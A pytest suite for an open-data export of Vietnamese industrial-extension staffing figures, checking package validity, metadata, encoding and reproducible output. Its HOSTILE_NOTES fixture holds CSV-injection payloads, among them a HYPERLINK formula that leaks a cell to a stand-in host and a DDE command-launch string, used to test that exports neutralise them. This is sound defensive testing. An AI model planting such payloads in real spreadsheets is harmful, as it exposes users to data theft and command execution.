"""Open data beside the reports (analysis.opendata): a Frictionless Data Package that validates,
CSVs in UTF-8 with BOM that a spreadsheet cannot run as formulas, identical bytes on every write."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from analysis import config, dataset, key_figures, opendata
from conftest import return_row

frictionless = pytest.importorskip("frictionless", reason="frictionless (a dev dependency) validates the package")


def read_csv_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    """(header, rows) of a CSV written by opendata, as the text cells a spreadsheet would get."""
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def _write(year: int, processed_dir: Path, out_dir: Path, sample: bool) -> dict[str, Path]:
    return {p.name: p for p in opendata.write_open_data(year, processed_dir, out_dir, sample)}


@pytest.fixture(scope="module")
def sample_2022(sample_build, tmp_path_factory):
    """The shipped 2022 sample built (conftest) and written as open data: (paths by name, units)."""
    out = tmp_path_factory.mktemp("reports") / "2022"
    return _write(2022, sample_build.out_dir.parent, out, sample=True), sample_build.units


def _valid(package: Path) -> list:
    report = frictionless.validate(package)
    return [] if report.valid else report.flatten(["type", "note", "rowNumber", "fieldName"])


def test_write_open_data_sample_2022_is_a_valid_data_package(sample_2022):
    paths, _ = sample_2022
    assert sorted(paths) == ["datapackage.json", "national-indicators.csv", "provinces.csv", "units.csv"]
    assert all(p.parent.name == opendata.DATA_FOLDER for p in paths.values())
    assert _valid(paths["datapackage.json"]) == []


def test_write_open_data_package_carries_texts_citation_licence_and_sample_flag(sample_2022):
    package = json.loads(sample_2022[0]["datapackage.json"].read_text(encoding="utf-8"))
    assert package["khuyencong:sample_data"] is True
    for text in (package["title"], package["description"], package["khuyencong:title_en"]):
        assert "DỮ LIỆU MẪU" in text or "SAMPLE DATA" in text
    assert "SAMPLE DATA" in package["khuyencong:description_en"] and "not real" in package["khuyencong:description_en"]
    assert "Nhịp cầu Công Thương" in package["khuyencong:citation"] and "146870" in package["khuyencong:citation"]
    assert package["sources"][0]["path"].startswith("https://tuyengiao.vn/")
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    for resource in package["resources"]:
        data = (sample_2022[0]["datapackage.json"].parent / resource["path"]).read_bytes()
        assert resource["bytes"] == len(data)
        assert resource["title"] and resource["khuyencong:title_en"] and resource["khuyencong:description_en"]
        for field in resource["schema"]["fields"]:
            assert field["title"] and field["description"] and field["khuyencong:title_en"], field["name"]


def test_write_open_data_schemas_constrain_shares_ratings_and_keys(sample_2022):
    package = json.loads(sample_2022[0]["datapackage.json"].read_text(encoding="utf-8"))
    schemas = {r["name"]: r["schema"] for r in package["resources"]}
    provinces = {f["name"]: f for f in schemas["provinces"]["fields"]}
    assert provinces["field_share"]["constraints"] == {"minimum": 0, "maximum": 1}
    assert provinces["field_share"]["khuyencong:unit_en"] == "share (0-1)"
    assert set(provinces["staffing"]["constraints"]["enum"]) == {"adequate", "thin", "critical", "no_return"}
    assert provinces["staff_total"]["type"] == "integer"
    assert schemas["provinces"]["primaryKey"] == ["province_code"]
    assert schemas["national-indicators"]["primaryKey"] == ["indicator"]


def test_write_open_data_csvs_have_a_bom_and_every_unit_column(sample_2022):
    paths, units = sample_2022
    for name in ("units.csv", "national-indicators.csv", "provinces.csv"):
        assert paths[name].read_bytes().startswith(b"\xef\xbb\xbf"), name
    header, rows = read_csv_rows(paths["units.csv"])
    assert header == list(units.columns)
    assert len(rows) == len(units)


def test_write_open_data_national_staff_field_equals_the_indicators(sample_2022):
    paths, units = sample_2022
    national = pd.read_csv(paths["national-indicators.csv"], encoding="utf-8-sig").set_index("indicator")
    computed = key_figures.national_indicators(units, 2022)
    assert national.at["staff_field", "value"] == computed["staff_field"] == 516  # the published figure
    assert national.at["field_share", "value"] == pytest.approx(computed["field_share"], abs=1e-6)
    assert national.at["central.IPC1.staff_total", "value"] == 24


def test_write_open_data_provinces_have_one_row_per_province_of_the_map(sample_2022):
    provinces = pd.read_csv(sample_2022[0]["provinces.csv"], encoding="utf-8-sig", dtype={"province_code": str})
    assert len(provinces) == 63 and provinces["province_code"].is_unique
    assert provinces["staff_field"].sum() == 516
    assert provinces["field_share"].between(0, 1).all()


def test_write_open_data_is_byte_identical_on_a_second_write(sample_2022, sample_build, tmp_path):
    first = sample_2022[0]
    second = _write(2022, sample_build.out_dir.parent, tmp_path / "2022", sample=True)
    for name, path in first.items():
        assert second[name].read_bytes() == path.read_bytes(), name
    again = _write(2022, sample_build.out_dir.parent, tmp_path / "2022", sample=True)
    assert {n: p.read_bytes() for n, p in again.items()} == {n: p.read_bytes() for n, p in second.items()}


HOSTILE_NOTES = {
    "Lào Cai": '=HYPERLINK("http://x/?"&A1,"click")',
    "Hà Giang": "+cmd|' /C calc'!A0",
    "Cao Bằng": "-2+3",
    "Bắc Kạn": "@SUM(1)",
}


@pytest.fixture
def hostile_build(write_csv, raw_dir, tmp_path):
    """A 2022 build of four provinces whose notes look like formulas (the other 59 sent no return)."""
    rows = [return_row(province=name, unit_name=f"Trung tâm Khuyến công {name}", notes=notes,
                       staff_total=20 + i, staff_field=5 + i) for i, (name, notes) in enumerate(HOSTILE_NOTES.items())]
    write_csv("hostile.csv", rows)
    result = dataset.build_year(2022, raw_dir, tmp_path / "processed")
    assert result.errors == 0, [str(i) for i in result.issues]
    return tmp_path / "processed"


def test_write_open_data_neutralises_formula_like_text(hostile_build, tmp_path):
    paths = _write(2022, hostile_build, tmp_path / "reports" / "2022", sample=False)
    assert _valid(paths["datapackage.json"]) == []
    header, rows = read_csv_rows(paths["units.csv"])
    notes = {row[header.index("province_name")]: row[header.index("notes")] for row in rows}
    assert notes == {name: "'" + text for name, text in HOSTILE_NOTES.items()}
    staff = [row[header.index("staff_total")] for row in rows]
    assert sorted(staff) == ["20", "21", "22", "23"]  # numbers stay numbers, no quote or prefix
    package = json.loads(paths["datapackage.json"].read_text(encoding="utf-8"))
    assert package["khuyencong:sample_data"] is False and "DỮ LIỆU MẪU" not in package["title"]


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_units_csv_opened_in_libreoffice_has_no_formula_and_numeric_figures(hostile_build, tmp_path):
    import openpyxl

    paths = _write(2022, hostile_build, tmp_path / "reports" / "2022", sample=False)
    profile = (tmp_path / "lo-profile").as_uri()  # a profile of its own: soffice runs may be concurrent
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation={profile}", "--infilter=CSV:44,34,76,1",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path), str(paths["units.csv"])],
                   check=True, capture_output=True, timeout=120)
    sheet = openpyxl.load_workbook(tmp_path / "units.xlsx").active
    cells = list(sheet.iter_rows(min_row=2))
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]
    notes = {row[header.index("province_name")].value: row[header.index("notes")].value for row in cells}
    assert notes == {name: "'" + text for name, text in HOSTILE_NOTES.items()}  # Vietnamese names read as UTF-8
    assert sorted(row[header.index("staff_total")].value for row in cells) == [20, 21, 22, 23]


def test_write_open_data_leaves_provinces_without_a_return_empty(hostile_build, tmp_path):
    paths = _write(2022, hostile_build, tmp_path / "reports" / "2022", sample=False)
    header, rows = read_csv_rows(paths["provinces.csv"])
    by_name = {row[header.index("province_name")]: dict(zip(header, row)) for row in rows}
    assert len(by_name) == 63
    kon_tum = by_name["Kon Tum"]
    assert kon_tum["returned"] == "false" and kon_tum["staffing"] == kon_tum["network"] == "no_return"
    assert kon_tum["staff_total"] == kon_tum["field_share"] == kon_tum["low_pay"] == ""
    assert by_name["Lào Cai"]["returned"] == "true" and by_name["Lào Cai"]["staff_total"] == "20"


def test_write_open_data_2025_has_34_provinces_and_empty_district_figures(sample_processed, tmp_path):
    paths = _write(2025, sample_processed, tmp_path / "reports" / "2025", sample=True)
    assert _valid(paths["datapackage.json"]) == []
    header, rows = read_csv_rows(paths["provinces.csv"])
    assert len(rows) == 34
    for column in ("districts_total", "districts_with_network", "district_collaborators", "district_coverage"):
        assert {row[header.index(column)] for row in rows} == {""}, column
    assert {row[header.index("communes_total")] for row in rows} != {""}
    national = pd.read_csv(paths["national-indicators.csv"], encoding="utf-8-sig").set_index("indicator")
    assert pd.isna(national.at["district_coverage", "value"]) and national.at["units_expected", "value"] == 34
    package = json.loads(paths["datapackage.json"].read_text(encoding="utf-8"))
    assert package["khuyencong:geo"] == "vn34"
    # the ratings are described with the thresholds of the 34-province map, not the 63-province ones
    fields = {f["name"]: f for r in package["resources"] if r["name"] == "provinces" for f in r["schema"]["fields"]}
    assert "mỗi tỉnh cũ" in fields["staffing"]["description"] and "0.17" in fields["network"]["description"]
    assert "huyện hoặc" not in fields["network"]["description"]


def test_csv_bytes_prefixes_every_formula_start_and_keeps_numbers():
    table = pd.DataFrame({
        "text": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", None],
        "count": pd.array([-3, 0, 1, 2, 3, 4, 5, None], dtype="Int64"),
        "share": [0.1 + 0.2, 1 / 3, 0.0, 1.0, 2.5e-7, 0.5, float("nan"), 0.25],
        "flag": pd.array([True, False, True, False, True, False, True, None], dtype="boolean"),
    })
    fields = [{"name": "text", "type": "string"}, {"name": "count", "type": "integer"},
              {"name": "share", "type": "number", "decimals": 6}, {"name": "flag", "type": "boolean"}]
    data = opendata.csv_bytes(table, fields)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["text", "count", "share", "flag"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", ""]
    assert [r[1] for r in rows[1:]] == ["-3", "0", "1", "2", "3", "4", "5", ""]
    assert [r[2] for r in rows[1:]] == ["0.3", "0.333333", "0", "1", "0", "0.5", "", "0.25"]
    assert [r[3] for r in rows[1:]] == ["true", "false", "true", "false", "true", "false", "true", ""]


def test_opendata_yml_describes_every_unit_column():
    described = opendata.opendata_metadata()["fields"]
    missing = [c for c in config.UNIT_COLUMNS if c not in described]
    assert missing == []


def test_field_descriptors_describe_a_column_opendata_yml_does_not_know():
    # e.g. a column a later build adds to units.parquet: typed from its dtype, named, still publishable
    table = pd.DataFrame({"staff_total": pd.array([3], dtype="Int64"), "source_cell": pd.array(["F5"], dtype="string"),
                          "weight": [0.5]})
    fields = opendata.field_descriptors(table, opendata.opendata_metadata(), {})
    assert [(f["name"], f["type"]) for f in fields] == [("staff_total", "integer"), ("source_cell", "string"),
                                                       ("weight", "number")]
    assert fields[0]["khuyencong:unit_en"] == "persons" and fields[1]["title"] == "source_cell"
